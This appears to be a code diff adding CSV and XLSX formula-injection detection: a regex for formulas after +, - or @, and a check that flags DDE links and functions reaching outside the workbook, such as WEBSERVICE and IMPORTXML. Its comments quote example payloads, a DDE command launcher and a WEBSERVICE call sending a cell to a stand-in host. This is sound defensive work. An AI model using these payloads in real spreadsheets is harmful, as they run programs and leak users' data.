@@ -23,13 +23,16 @@ export const FULL_WIDTH_SIGNS: Readonly<Record<string, string>> = {
   '\uff20': '@',
 };
 
+/** A function call (`HYPERLINK(`, `_xlfn.WEBSERVICE(`) or a DDE link (`cmd|`): a name, then "(" or "|". */
+const CALL_OR_DDE = '[A-Za-z_][\\w.]*[(|]';
+
 /**
  * What makes `+`, `-` or `@` at a cell's start a formula: after numbers and operators, a function
  * call (`+HYPERLINK(`, `@SUM(`) or a DDE link (`-2+3+cmd|`). A name and a space before a bracket
  * ("- Frete (ida)") is text. The run of numbers and operators stays in its cell (a comma only as
  * a decimal one, no line break or other separator), so no two cells' runs overlap: linear work.
  */
-const FORMULA_AFTER_SIGN = /[+\-@\uff0b\uff0d\uff20](?:[\d .+\-*/^=@]|,(?=\d))*[A-Za-z_][\w.]*[(|]/y;
+const FORMULA_AFTER_SIGN = new RegExp(`[+\\-@\\uff0b\\uff0d\\uff20](?:[\\d .+\\-*/^=@]|,(?=\\d))*${CALL_OR_DDE}`, 'y');
 
 export function csvHasFormula(text: string): boolean {
   for (const match of text.matchAll(CELL_START)) {
@@ -40,6 +43,49 @@ export function csvHasFormula(text: string): boolean {
       FORMULA_AFTER_SIGN.lastIndex = at;
       if (FORMULA_AFTER_SIGN.test(text)) return true;
     }
+  }
+  return false;
+}
+
+/**
+ * Functions that reach outside the workbook when it is calculated (on open): fetch a URL and send
+ * cell values in it (WEBSERVICE, FILTERXML over it, IMAGE, Google Sheets' IMPORT*), call a program
+ * or a library (RTD, CALL, REGISTER). HYPERLINK is not here: it waits for a click, as an ordinary link.
+ */
+const REMOTE_FUNCTIONS: ReadonlySet<string> = new Set([
+  'WEBSERVICE',
+  'FILTERXML',
+  'IMAGE',
+  'RTD',
+  'CALL',
+  'REGISTER',
+  'REGISTER.ID',
+  'IMPORTXML',
+  'IMPORTDATA',
+  'IMPORTHTML',
+  'IMPORTFEED',
+  'IMPORTRANGE',
+]);
+/** Each call or DDE link, found where a name starts (tried from each letter of a long name, it was quadratic). */
+const CALLS = new RegExp(`(?<![\\w.])${CALL_OR_DDE}`, 'g');
+/** A string literal of a formula ("" is a quote inside it): what it says is not called. */
+const FORMULA_STRING = /"(?:[^"]|"")*"/g;
+
+/**
+ * Whether a spreadsheet formula (an XLSX cell's, without its "=") reaches outside the workbook: a DDE
+ * link (`cmd|' /C calc'!A0`, a program started) or a REMOTE_FUNCTIONS call (`WEBSERVICE("http://golpe/?"&A2)`
+ * sends the cell). Calls read as CSV cells are (CALL_OR_DDE); `SUM(`, `HYPERLINK(` are ordinary.
+ */
+export function formulaReachesOut(formula: string): boolean {
+  const code = formula.replace(FORMULA_STRING, '""');
+  for (const match of code.matchAll(CALLS)) {
+    const call = match[0];
+    if (call.endsWith('|')) return true;
+    const name = call
+      .slice(0, -1)
+      .toUpperCase()
+      .replace(/^_XL(?:FN|WS)\./, '');
+    if (REMOTE_FUNCTIONS.has(name)) return true;
   }
   return false;
 }
